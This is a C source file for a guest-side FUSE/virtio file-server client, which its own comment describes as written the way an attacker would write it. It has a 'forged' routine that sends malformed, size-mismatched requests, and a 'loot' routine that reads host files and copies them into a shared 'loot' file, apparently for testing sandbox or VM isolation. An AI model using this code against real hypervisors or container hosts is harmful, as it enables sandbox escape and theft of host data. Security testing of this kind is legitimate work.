// The client of the file server (linux/fuse.h), as an attacker would write it.
#include "guest.h"

u64 root, share, read_only;
u8 reply[REPLY_ROOM] __attribute__((aligned(4096)));
static u8 message[0x12000] __attribute__((aligned(4096)));
static struct queue queues[2];
static u64 unique, loot_node, loot_handle, loot_end;

static void header(u32 opcode, u64 node, u32 size) {
    u32 *words = (u32 *)message;
    fill(message, 0, 40);
    words[0] = size;
    words[1] = opcode;
    *(u64 *)(message + 8) = ++unique;
    *(u64 *)(message + 16) = node;
}

static int exchange(u32 sent, u32 room) {
    struct descriptor *chain = queues[1].descriptors;
    fill(reply, 0, 256);
    chain[0] = (struct descriptor){(u64)message, sent, room ? NEXT : 0, 1};
    chain[1] = (struct descriptor){(u64)reply, room, WRITE_ONLY, 0};
    offer(FILE_SYSTEM, queues, 1, 0);
    if (!wait_used(&queues[1], 4000000)) {
        say("guest: no answer");
        return 1;
    }
    return *(u32 *)reply < 16 ? 1 : *(int *)(reply + 4);
}

int request(u32 opcode, u64 node, const void *arguments, u32 size, const void *more, u32 more_size) {
    header(opcode, node, 40 + size + more_size);
    copy(message + 40, arguments, size);
    copy(message + 40 + size, more, more_size);
    return exchange(40 + size + more_size, REPLY_ROOM);
}

int forged(u32 opcode, u64 node, u32 claimed, u32 sent, u32 room) {
    header(opcode, node, claimed);
    fill(message + 40, 0xff, 256);
    return exchange(sent, room);
}

int named(u32 opcode, u64 node, const char *name, u32 size) { return request(opcode, node, name, size, 0, 0); }

u64 reply_node(void) { return *(u64 *)(reply + 16); }

u64 lookup(u64 parent, const char *name) {
    return named(LOOKUP, parent, name, length(name) + 1) == 0 ? reply_node() : 0;
}

int create(u64 parent, const char *name, u32 size, u64 *node, u64 *handle) {
    // O_RDWR | O_CREAT
    u32 words[4] = {0102, 0100644, 0, 0};
    int error = request(CREATE, parent, words, sizeof words, name, size);
    if (error != 0) return error;
    *node = reply_node();
    *handle = *(u64 *)(reply + 16 + 128);
    return 0;
}

int put(u64 node, u64 handle, const void *data, u32 size, u64 offset) {
    struct {
        u64 handle, offset;
        u32 size, write_flags;
        u64 owner;
        u32 flags, padding;
    } words = {handle, offset, size, 0, 0, 0, 0};
    return request(WRITE, node, &words, sizeof words, data, size);
}

int link_to(u64 parent, const char *name, const char *target) {
    return request(SYMLINK, parent, name, length(name) + 1, target, length(target) + 1);
}

int make_node(u64 parent, const char *name, u32 mode, u32 device) {
    u32 words[4] = {mode, device, 0, 0};
    return request(MKNOD, parent, words, sizeof words, name, length(name) + 1);
}

void loot(u64 node, u32 flags) {
    static u8 page[4096];
    u32 words[2] = {flags, 0};
    int error = request(OPEN, node, words, sizeof words, 0, 0);
    if (error != 0) return;
    struct {
        u64 handle, offset;
        u32 size, read_flags;
        u64 owner;
        u32 flags, padding;
    } arguments = {*(u64 *)(reply + 16), 0, sizeof page, 0, 0, 0, 0};
    if (request(READ, node, &arguments, sizeof arguments, 0, 0) != 0) return;
    u32 size = *(u32 *)reply - 16;
    if (size > sizeof page) size = sizeof page;
    copy(page, reply + 16, size);
    say_number("guest: loot ", size);
    put(loot_node, loot_handle, page, size, loot_end);
    loot_end += size;
}

void begin_files(void) {
    u32 words[16] = {7, 39, 0x20000, 0xffffffff & ~(1u << 30), 0};
    u64 node, handle;
    begin(FILE_SYSTEM, queues, 2);
    say_number("guest: init ", request(INIT, 0, words, sizeof words, 0, 0));
    root = lookup(1, "rootfs");
    u64 mounts = lookup(1, "mounts");
    // Named by the number of the mount in config.json: the first two that are there.
    for (int n = 0; n < 64 && !read_only; n++) {
        char name[3] = {n < 10 ? '0' + n : '0' + n / 10, n < 10 ? 0 : '0' + n % 10, 0};
        u64 found = lookup(mounts, name);
        if (share) read_only = found;
        else share = found;
    }
    say_number("guest: root ", root);
    say_number("guest: share ", share);
    say_number("guest: read-only ", read_only);
    // What is honest comes through: the host sees this file.
    if (create(share, "reached", 8, &node, &handle) == 0) put(node, handle, "reached", 7, 0);
    create(share, "loot", 5, &loot_node, &loot_handle);
}
